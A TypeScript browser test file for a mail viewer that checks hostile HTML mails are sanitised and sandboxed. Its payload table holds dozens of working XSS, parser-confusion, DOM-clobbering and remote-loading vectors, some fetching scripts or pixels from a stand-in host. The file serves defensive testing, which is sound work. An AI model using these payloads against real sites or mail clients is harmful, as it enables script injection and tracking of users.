import type { Browser, Page } from 'playwright-core'
import { afterAll, beforeAll, expect, it } from 'vitest'
import { administrator, type LiveServer, startLiveServer } from '../../support/live-server.ts'
import { buildMail } from '../../support/mail.ts'
import { barriers, openBrowser, openWindow, signInOn, visit } from './reader.ts'

/** Where a mail would call if it could. Nobody is there; that the browser asks at all is the failure. */
const abroad = 'http://192.0.2.7'
const run = 'parent.ran=1;top.ran=1;window.ran=1;alert(1)'

/** What hostile mails hold, by what they try. Each also says a word that has to stay. */
const payloads: Record<string, string> = {
  script: `<script>${run}</script>`,
  'script from elsewhere': `<script src="${abroad}/a.js"></script>`,
  'event handler': `<img src="x" onerror="${run}">`,
  'handler on a known tag': `<p onclick="${run}" onmouseover="${run}" onfocus="${run}" tabindex="1" autofocus>p</p>`,
  'svg onload': `<svg onload="${run}"><animate onbegin="${run}" attributeName="x" dur="1s"/></svg>`,
  'svg foreign object': `<svg><foreignObject><iframe srcdoc="<script>${run}</script>"></iframe></foreignObject></svg>`,
  'svg use': `<svg><use href="data:image/svg+xml;base64,PHN2Zy8+#x"/></svg>`,
  'svg feImage': `<svg><filter><feImage href="${abroad}/f.png"/></filter></svg>`,
  mathml: `<math><mtext><table><mglyph><style><img src=x onerror="${run}"></style></mglyph></table></mtext></math>`,
  'nested forms': `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${run}"></style></form>`,
  'noscript confusion': `<noscript><p title="</noscript><img src=x onerror='${run}'>"></noscript>`,
  'comment confusion': `<!--><img src=x onerror="${run}">--><!--!><svg onload="${run}">`,
  template: `<template><img src=x onerror="${run}"></template>`,
  'textarea break-out': `<textarea><img title="</textarea><img src=x onerror='${run}'>"></textarea>`,
  'xmp and plaintext': `<xmp><img src=x onerror="${run}"></xmp>`,
  iframe: `<iframe src="${abroad}/"></iframe><iframe srcdoc="<script>${run}</script>"></iframe>`,
  'object and embed': `<object data="${abroad}/o"></object><embed src="${abroad}/e"><applet code="x"></applet>`,
  'javascript link': `<a href="javascript:${run}">link</a><a href=" jAvA&Tab;script:${run}">link</a>`,
  'data link': `<a href="data:text/html,<script>${run}</script>">link</a>`,
  'vbscript link': `<a href="vbscript:msgbox(1)">link</a>`,
  'remote picture': `<img src="${abroad}/pixel.gif" alt="piksel">`,
  'remote picture without scheme': `<img src="//192.0.2.7/pixel.gif">`,
  'picture set': `<img srcset="${abroad}/a.png 1x"><picture><source srcset="${abroad}/b.png"><img></picture>`,
  'background attribute': `<table background="${abroad}/b.png"><tr><td background="${abroad}/c.png">x</td></tr></table>`,
  'style url': `<p style="background:url(${abroad}/u.png)">x</p><p style="background-image:u\\rl(${abroad}/v.png)">y</p>`,
  'style import': `<style>@import url(${abroad}/s.css); * { background: url(${abroad}/t.png) }</style>`,
  'style variable': `<p style="--x:url(${abroad}/w.png);background:var(--x)">x</p>`,
  'style image set': `<p style="list-style-image:image-set('${abroad}/i.png' 1x);cursor:url(${abroad}/c.cur),auto">x</p>`,
  'style over the page': `<div style="position:fixed;inset:0;z-index:9999;background:red">x</div>`,
  'style expression': `<p style="width:expression(${run});behavior:url(${abroad}/x.htc);-moz-binding:url(${abroad}/x.xml)">x</p>`,
  'stylesheet link': `<link rel="stylesheet" href="${abroad}/l.css"><link rel="prefetch" href="${abroad}/p">`,
  'base address': `<base href="${abroad}/"><img src="relative.png">`,
  'meta refresh': `<meta http-equiv="refresh" content="0;url=${abroad}/">`,
  'meta policy': `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
  form: `<form action="${abroad}/"><input name="a" autofocus onfocus="${run}"><button formaction="javascript:${run}">b</button></form>`,
  'audio and video': `<audio src="${abroad}/a.mp3" autoplay></audio><video poster="${abroad}/p.png" src="${abroad}/v.mp4"></video><track src="${abroad}/t">`,
  'input picture': `<input type="image" src="${abroad}/i.png">`,
  'clobbering names': `<img name="body"><form id="documentElement"><input name="attributes"></form><a id="content"></a>`,
  'details toggle': `<details open ontoggle="${run}">x</details><marquee onstart="${run}">y</marquee>`,
  dialog: `<dialog open>x</dialog><div popover>y</div><button popovertarget="p">z</button>`,
  'custom element': `<x-y onclick="${run}">x</x-y><slot onslotchange="${run}"></slot>`,
  'data picture of svg': `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+">`,
  'ping and download': `<a href="https://192.0.2.7/" ping="${abroad}/ping" download>x</a>`,
  'deep nesting': `${'<div><b>'.repeat(600)}<img src=x onerror="${run}">${'</b></div>'.repeat(600)}`,
  'broken utf-7': `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
}

let server: LiveServer
let browser: Browser
let page: Page
let complaints: string[]
let token = ''
const asked: string[] = []
/** Why an address was not reached. */
const failures = new Map<string, string | undefined>()
const items = new Map<string, string>()
/** What these open they never close, so for any browser what follows is a part of it. */
const swallowing = [
  'xmp and plaintext',
  'textarea break-out',
  'nested forms',
  'noscript confusion',
  'comment confusion',
]

async function post(url: string, type: string, body: string) {
  const reply = await fetch(server.origin + url, {
    method: 'POST',
    headers: { authorization: `Bearer ${token}`, 'content-type': type },
    body,
  })
  if (!reply.ok) throw new Error(`${reply.status}: ${await reply.text()}`)
  return reply.json()
}

beforeAll(async () => {
  server = await startLiveServer()
  const session = await fetch(`${server.origin}/api/session`, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify(administrator),
  })
  token = (await session.json()).token
  const contractor = await post('/api/contractors', 'application/json', JSON.stringify({ name: 'Wrogi nadawca' }))
  for (const [name, payload] of Object.entries(payloads)) {
    const html = `<html><body><p>słowo przed</p>${payload}<p>słowo po: ${name}</p></body></html>`
    const source = buildMail({ from: 'wrog@wrogi.example', subject: `${name} <img src=x onerror=alert(1)>`, html })
    const { items: filed } = await post(`/api/messages?contractorId=${contractor.id}`, 'message/rfc822', source)
    items.set(name, filed[0].id)
  }
  browser = await openBrowser()
  ;({ page, complaints } = await openWindow(browser))
  page.on('dialog', dialog => {
    complaints.push(`dialog: ${dialog.message()}`)
    void dialog.dismiss()
  })
  page.on('request', request => asked.push(request.url()))
  page.on('requestfailed', request => failures.set(request.url(), request.failure()?.errorText))
  await page.goto(server.origin)
  await signInOn(page, administrator)
})

afterAll(async () => {
  await browser?.close()
  await server?.stop()
})

it.each(Object.keys(payloads))('runs nothing, loads nothing and keeps the words: %s', async name => {
  await visit(page, `#/items/${items.get(name)}`)
  const frame = page.frameLocator('iframe.mail-frame')
  await frame.getByText('słowo przed').waitFor()

  if (!swallowing.includes(name)) await frame.getByText(`słowo po: ${name}`).waitFor()
  expect(await page.evaluate(() => 'ran' in window)).toBe(false)
  expect(await frame.locator('body').evaluate(body => 'ran' in (body.ownerDocument.defaultView ?? {}))).toBe(false)
  expect(
    await frame
      .locator('script, style:not(head style), iframe, object, embed, svg, math, form, link, meta[http-equiv], base')
      .count(),
  ).toBe(0)
  expect(asked.filter(url => !url.startsWith(server.origin) && !url.startsWith('data:'))).toEqual([])
})

it('says how many pictures were not loaded', async () => {
  await visit(page, `#/items/${items.get('remote picture')}`)

  await page.getByText('Nie wczytano z sieci: 1').waitFor()
})

it('shows a mail in a frame that could run nothing even if the cleaning failed', async () => {
  await visit(page, `#/items/${items.get('script')}`)
  const frame = page.frameLocator('iframe.mail-frame')
  await frame.getByText('słowo przed').waitFor()

  await frame.locator('body').evaluate((body, source) => {
    body.innerHTML = `<img src="x" onerror="parent.ran=1"><img src="${source}/cleaning-failed.png"><iframe srcdoc="<script>top.ran=1</script>"></iframe>`
  }, abroad)
  await page.waitForTimeout(500)

  expect(await page.evaluate(() => 'ran' in window)).toBe(false)
  expect(failures.get(`${abroad}/cleaning-failed.png`)).toBe('csp')
})

it('has no barrier on the page of a mail', async () => {
  await visit(page, `#/items/${items.get('event handler')}`)
  await page.frameLocator('iframe.mail-frame').getByText('słowo przed').waitFor()

  expect(await barriers(page)).toEqual([])
})

it('never showed a dialog', () => {
  expect(complaints.filter(line => line.startsWith('dialog'))).toEqual([])
  // No style of a mail is read under the policy of our own pages.
  expect(complaints.filter(line => line.includes(`style-src 'self'`))).toEqual([])
})
